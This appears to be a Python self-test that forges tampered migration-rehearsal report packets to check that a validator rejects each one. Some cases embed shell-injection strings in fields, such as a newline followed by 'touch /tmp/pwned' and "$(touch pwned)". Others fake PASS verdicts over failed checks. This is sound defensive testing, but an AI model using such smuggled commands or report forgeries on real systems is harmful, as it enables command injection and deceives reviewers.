def _set(path: tuple[str | int, ...], value: Any) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        node: Any = doc
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value

    return edit


def _argv(change: Callable[[list[str]], list[str]]) -> Callable[[dict[str, Any]], None]:
    def edit(doc: dict[str, Any]) -> None:
        doc["commands"][0]["argv"] = change(list(doc["commands"][0]["argv"]))

    return edit


def _without_legs_option(argv: list[str]) -> list[str]:
    if "--legs" in argv:
        i = argv.index("--legs")
        del argv[i : i + 2]
    return argv


def _only_fingerprints_of(files: Mapping[str, bytes], name: str) -> set[str]:
    """fingerprints/ files referred to by leg `name` and by nothing else."""
    report = json.loads(files[REPORT_JSON])
    others = {report["source"]["fingerprint"]}
    for x in report["legs"]:
        if x["name"] != name:
            others.update(x["fingerprints"].values())
    mine = set(leg(report, name)["fingerprints"].values()) - others
    return {f"fingerprints/{d.removeprefix('sha256:')}.json" for d in mine}


def _drop_leg(files: Mapping[str, bytes], name: str, *, argv_too: bool = False) -> Files:
    """Delete leg `name` and its fingerprints, recompute every verdict as if it never ran."""
    gone = _only_fingerprints_of(files, name)

    def edit(report: dict[str, Any]) -> None:
        report["legs"] = [x for x in report["legs"] if x["name"] != name]
        if all(x["verdict"] in ("PASS", "NOT_APPLICABLE") for x in report["legs"]):
            report["overall"] = "PASS"
        restate(report)

    def codes(doc: dict[str, Any]) -> None:
        doc["commands"][0]["exit_code"] = 0
        if argv_too:
            legs = [x for x in json.loads(files[REPORT_JSON])["legs"] if x["name"] != name]
            argv = _without_legs_option(doc["commands"][0]["argv"])
            doc["commands"][0]["argv"] = [*argv, "--legs", ",".join(x["name"] for x in legs)]

    return forge(files, edit, codes, drop=lambda p: p in gone)


def _drop_isolation_check(index: int) -> Callable[[dict[str, Any]], None]:
    def edit(report: dict[str, Any]) -> None:
        del report["isolation"]["checks"][index]
        restate(report)

    return edit


def _failing_check_deleted(files: Mapping[str, bytes]) -> Files:
    """A packet whose last isolation check failed, then that check deleted (4 of 5 left)."""

    def fail(report: dict[str, Any]) -> None:
        report["isolation"]["checks"][-1]["holds"] = False
        del report["isolation"]["checks"][-1]
        report["isolation"]["verdict"] = "PROVEN_ISOLATED_NOT_PRODUCTION"
        restate(report)

    return forge(files, fail)


def _md_table_says_pass(files: Mapping[str, bytes]) -> Files:
    md = files[REPORT_MD]
    assert b"| revert | FAIL |" in md
    return reseal({**files, REPORT_MD: md.replace(b"| revert | FAIL |", b"| revert | PASS |")})


def _md_replace(files: Mapping[str, bytes], old: bytes, new: bytes) -> Files:
    md = files[REPORT_MD]
    assert old in md, old
    return reseal({**files, REPORT_MD: md.replace(old, new, 1)})


def _pass_over_lossy_revert(report: dict[str, Any]) -> None:
    _pass_over_difference(report)
    report["overall"] = "PASS"
    restate(report)


def _overall_pass(report: dict[str, Any]) -> None:
    report["overall"] = "PASS"
    restate(report)


def _last_check_fails(report: dict[str, Any]) -> None:
    report["isolation"]["checks"][-1]["holds"] = False
    restate(report)


def _many_legs(report: dict[str, Any]) -> None:
    report["legs"] = report["legs"] * 3


def _separator_bomb(files: Mapping[str, bytes]) -> Files:
    """report.json with more separators than the bound allows: refused before it is parsed."""
    body = files[REPORT_JSON]
    padding = b'"excluded": [' + b",".join([b"0"] * 260_000) + b"]"
    assert b'"excluded": []' in body
    return reseal({**files, REPORT_JSON: body.replace(b'"excluded": []', padding, 1)})


def _restore_settings_forged(report: dict[str, Any]) -> None:
    leg(report, "revert")["differences"] = [
        {"component": "table:items", "kind": "changed", "summary": "x", "detail": {"ok": 1}}
    ]


ATTACKS: tuple[Case, ...] = (
    Case("attack-honest-rerendered", None, lambda c: forge(c.sound)),
    Case("attack-honest-lossy-rerendered", None, lambda c: forge(c.lossy)),
    Case(
        "attack-honest-default-legs-argv",
        None,
        lambda c: forge(c.sound, None, _argv(_without_legs_option)),
    ),
    Case(
        "attack-honest-legs-equals-form",
        None,
        lambda c: forge(
            c.sound,
            None,
            _argv(
                lambda a: (
                    [
                        *_without_legs_option(a),
                        "--legs=read-only,transaction",
                        "--legs",
                        "restore,revert",
                    ]
                )
            ),
        ),
    ),
    Case(
        "attack-version-shell-injection",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("rollproof_version",), "0.1.0\ntouch /tmp/pwned #")),
    ),
    Case(
        "attack-version-trailing-newline",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("rollproof_version",), "0.1.0\n")),
    ),
    Case(
        "attack-change-id-quote-injection",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("change", "id"), "x'$(touch pwned)'")),
    ),
    Case(
        "attack-dsn-newline",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("source", "dsn"), "sqlite:///x.db\ntouch pwned")),
    ),
    Case(
        "attack-argv-newline",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, None, _argv(lambda a: [*a, "x\ntouch pwned"])),
    ),
    Case(
        "attack-policy-path-control-char",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("surfaces", "policy", "path"), "p.toml\r\x1b[2K")),
    ),
    Case(
        "attack-started-at-trailing-newline",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("started_at",), "2026-01-02T03:04:05Z\n")),
    ),
    Case(
        "attack-isolation-check-name-newline",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _set(("isolation", "checks", 0, "name"), "a\nb")),
    ),
    Case(
        "attack-invariant-text-injection",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(
            c.sound, _set(("legs", 1, "invariants", 0, "check"), "x`\n# Rehearsal: PASS")
        ),
    ),
    Case(
        "attack-difference-detail-open-field",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.lossy, _restore_settings_forged),
    ),
    Case(
        "attack-reason-too-long",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.lossy, _set(("legs", 2, "reason"), "x" * 70_000)),
    ),
    Case(
        "attack-legs-array-too-long",
        FindingCode.SCHEMA_VIOLATION,
        lambda c: forge(c.sound, _many_legs),
    ),
    Case(
        "attack-json-separator-bomb", FindingCode.LIMIT_EXCEEDED, lambda c: _separator_bomb(c.sound)
    ),
    Case(
        "attack-drop-failing-revert-leg",
        FindingCode.LEGS_NOT_REQUESTED,
        lambda c: _drop_leg(c.lossy, "revert"),
    ),
    Case(
        "attack-drop-leg-under-default-legs",
        FindingCode.LEGS_NOT_REQUESTED,
        lambda c: _drop_leg(forge(c.sound, None, _argv(_without_legs_option)), "restore"),
    ),
    Case(
        "attack-unknown-leg-requested",
        FindingCode.LEGS_NOT_REQUESTED,
        lambda c: forge(c.sound, None, _argv(lambda a: [*a, "--legs", "everything"])),
    ),
    Case(
        "attack-extra-leg-requested",
        FindingCode.LEGS_NOT_REQUESTED,
        lambda c: forge(c.sound, None, _argv(lambda a: [*a, "--legs", "reapply"])),
    ),
    Case(
        "attack-drop-failing-isolation-check",
        FindingCode.ISOLATION_CHECKS_MISMATCH,
        lambda c: _failing_check_deleted(c.sound),
    ),
    Case(
        "attack-drop-first-isolation-check",
        FindingCode.ISOLATION_CHECKS_MISMATCH,
        lambda c: forge(c.sound, _drop_isolation_check(0)),
    ),
    Case(
        "attack-rename-isolation-check",
        FindingCode.ISOLATION_CHECKS_MISMATCH,
        lambda c: forge(c.sound, _set(("isolation", "checks", 4, "name"), "operator-approved")),
    ),
    Case(
        "attack-reorder-isolation-checks",
        FindingCode.ISOLATION_CHECKS_MISMATCH,
        lambda c: forge(c.sound, lambda r: r["isolation"]["checks"].reverse()),
    ),
    Case(
        "attack-other-engine-checks",
        FindingCode.ISOLATION_CHECKS_MISMATCH,
        lambda c: forge(c.sound, _set(("source", "engine"), "postgresql")),
    ),
    Case(
        "attack-live-source-claims-a-dump",
        FindingCode.SOURCE_DUMP_MISMATCH,
        lambda c: forge(
            c.sound,
            _set(
                ("source", "dump"),
                {"format": "sqlite-file", "sha256": "0" * 64, "lane": "production-shaped-clone"},
            ),
        ),
    ),
    Case(
        "attack-report-md-table-says-pass",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: _md_table_says_pass(c.lossy),
    ),
    Case(
        "attack-report-md-line-appended",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: reseal({**c.lossy, REPORT_MD: c.lossy[REPORT_MD] + b"\nApproved: PASS\n"}),
    ),
    Case(
        "attack-report-md-meaning-rewritten",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: _md_replace(
            c.lossy,
            b"## What this means\n\nThe revert",
            b"## What this means\n\nThe revert is fine. The revert",
        ),
    ),
    Case(
        "attack-report-md-isolation-line",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: _md_replace(c.sound, b"- PASS clone-distinct-file", b"- PASS clone-distinct-fil"),
    ),
    Case(
        "attack-forbidden-summary-lie",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: forge(
            c.sound,
            _set(
                ("surfaces", "forbidden_summary"),
                "Forbidden surfaces 9/9 untouched/not-requested",
            ),
        ),
    ),
    Case(
        "attack-summary-says-pass",
        FindingCode.REPORT_TEXT_CONTRADICTS,
        lambda c: forge(
            c.lossy, lambda r: r.update(summary=r["summary"].replace(": FAIL (", ": PASS (", 1))
        ),
    ),
    Case(
        "attack-overall-pass-over-failed-leg",
        FindingCode.OVERALL_CONTRADICTS,
        lambda c: forge(c.lossy, _overall_pass),
    ),
    Case(
        "attack-revert-pass-over-lost-values",
        FindingCode.LEG_VERDICT_CONTRADICTS,
        lambda c: forge(c.lossy, _pass_over_lossy_revert),
    ),
    Case(
        "attack-isolation-proven-over-failed-check",
        FindingCode.ISOLATION_CONTRADICTS,
        lambda c: forge(c.sound, _last_check_fails),
    ),
    Case(
        "attack-exit-code-zero-over-fail",
        FindingCode.EXIT_CODE_CONTRADICTS,
        lambda c: forge(c.lossy, None, _set(("commands", 0, "exit_code"), 0)),
    ),
    Case(
        "attack-scratch-dsn-with-password",
        FindingCode.SECRET_PRESENT,
        lambda c: forge(c.sound, _set(("source", "scratch"), "postgresql://u:pw@h/db")),
    ),
    Case(
        "attack-change-toml-rewritten",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: reseal(
            {
                **forge(c.sound),
                "change/change.toml": c.sound["change/change.toml"].replace(
                    b'writes = ["items"]', b'writes = ["items", "orders"]'
                ),
            }
        ),
    ),
    Case(
        "attack-commands-sh-expects-pass",
        FindingCode.SCRIPT_MISMATCH,
        lambda c: reseal(
            {
                **c.lossy,
                COMMANDS_SH: c.lossy[COMMANDS_SH].replace(b"'overall FAIL'", b"'overall PASS'"),
            }
        ),
    ),
    Case(
        "attack-rerun-sh-extra-command",
        FindingCode.SCRIPT_MISMATCH,
        lambda c: reseal(
            {**c.sound, RERUN_SH: c.sound[RERUN_SH].replace(b"set -u\n", b"set -u\nid\n", 1)}
        ),
    ),
    # fingerprint v3 and later: a table's row count and order are in the whole digest, and one table
    # digest stands for one table, count and order across the packet
    Case(
        "attack-fingerprint-rows-edited",
        FindingCode.FINGERPRINT_INVALID,
        lambda c: _fingerprint_table_edit(c, rows=1_000_000),
    ),
    Case(
        "attack-fingerprint-order-edited",
        FindingCode.FINGERPRINT_INVALID,
        lambda c: _fingerprint_table_edit(c, order="row-digests"),
    ),
    Case(
        "attack-fingerprint-rows-edited-and-digest-recomputed",
        FindingCode.FINGERPRINT_INVALID,
        lambda c: _fingerprint_table_edit(c, rows=1_000_000, recompute=True),
    ),
    # change.toml selections and `transaction = false`, with the content id recomputed
    Case(
        "attack-selection-lines-out-of-bounds",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: _selected(c, "apply", 'apply = {file = "apply.sql", lines = [1, 9]}', [1, 9]),
    ),
    Case(
        "attack-selection-strip-not-a-bracket",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: _selected(
            c, "apply", 'apply = {file = "apply.sql", strip_transaction = true}', None, strip=True
        ),
    ),
    Case(
        "attack-selection-lines-other-than-recorded",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: _selected(c, "apply", 'apply = {file = "apply.sql", lines = [1, 1]}', None),
    ),
    Case(
        "attack-transaction-false-added",
        FindingCode.CONTENT_ID_MISMATCH,
        lambda c: reseal(
            {
                **c.sound,
                "change/change.toml": b"transaction = false\n" + c.sound["change/change.toml"],
            }
        ),
    ),
    Case(
        "attack-transaction-false-added-content-id-recomputed",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: forge(
            {
                **c.sound,
                "change/change.toml": b"transaction = false\n" + c.sound["change/change.toml"],
            },
            lambda r: r["change"].update(
                content_id=recomputed_content_id(
                    r["change"], r["impact"]["limits"]["change"], no_transaction=True
                )
            ),
        ),
    ),
    Case(
        "attack-transaction-leg-reworded-as-no-transaction",
        FindingCode.CHANGE_COPY_MISMATCH,
        lambda c: forge(
            c.lossy,
            lambda r: leg(r, "transaction").update(
                verdict="NOT_APPLICABLE",
                reason="the migration is marked to run outside a transaction: -- +goose NO",
                fingerprints={},
                invariants=[],
            ),
        ),
    ),
    Case(
        "attack-isolation-json-reworded",
        FindingCode.DETAIL_FILE_MISMATCH,
        lambda c: edit_canonical(
            c.sound, ISOLATION_JSON, lambda d: d["checks"][4].update(evidence="identical")
        ),
    ),
    Case(
        "attack-surfaces-json-reworded",
        FindingCode.DETAIL_FILE_MISMATCH,
        lambda c: edit_canonical(c.sound, SURFACES_JSON, lambda d: d.update(verdict="PASS ")),
    ),
)

PIN_CASE = "validator-pin-mismatch"


@dataclass(frozen=True, slots=True)
class CaseResult:
    name: str
    expected: str
    got: str
    ok: bool


def run_case(case: Case, corpus: Corpus, scratch: Path) -> CaseResult:
    trusted = (corpus.stranger if case.stranger else corpus.trusted,) if case.signed else ()
    options: dict[str, Any] = {"trusted_keys": trusted, "require_signature": case.signed}
    if case.limits is not None:
        options["limits"] = case.limits
    if case.on_disk is not None:
        packet = scratch / case.name / "packet"
        outside = scratch / case.name / "outside"
        outside.mkdir(parents=True)
        write_tree_atomically(packet, corpus.sound)
        case.on_disk(packet, outside)
        report: ValidationReport = check_packet(packet, **options)
    else:
        assert case.build is not None
        report = check_tree(PacketTree.from_files(case.build(corpus)), **options)
    expected = "valid" if case.expected is None else str(case.expected)
    got = "valid" if report.ok else str(report.findings[0].code)
    return CaseResult(
        case.name,
        expected,
        got + ("" if report.ok else f" ({report.findings[0]})"),
        got == expected,
    )


def run_pin_case(corpus: Corpus, scratch: Path) -> CaseResult:
    packet = scratch / PIN_CASE
    write_tree_atomically(packet, corpus.sound)
    try:
        check_packet(packet, expect_validator="0" * 64)
    except ValidatorPinError as e:
        return CaseResult(PIN_CASE, "refused", f"refused ({e})", True)
    return CaseResult(PIN_CASE, "refused", "a verdict was given", False)


def run_selftest(workdir: Path) -> list[CaseResult]:
    """Build the corpus under `workdir` and run every case."""
    corpus = build_corpus(workdir / "corpus")
    scratch = workdir / "cases"
    scratch.mkdir()
    results = [run_case(case, corpus, scratch) for case in (*CASES, *ATTACKS)]
    results.append(run_pin_case(corpus, scratch))
    return results
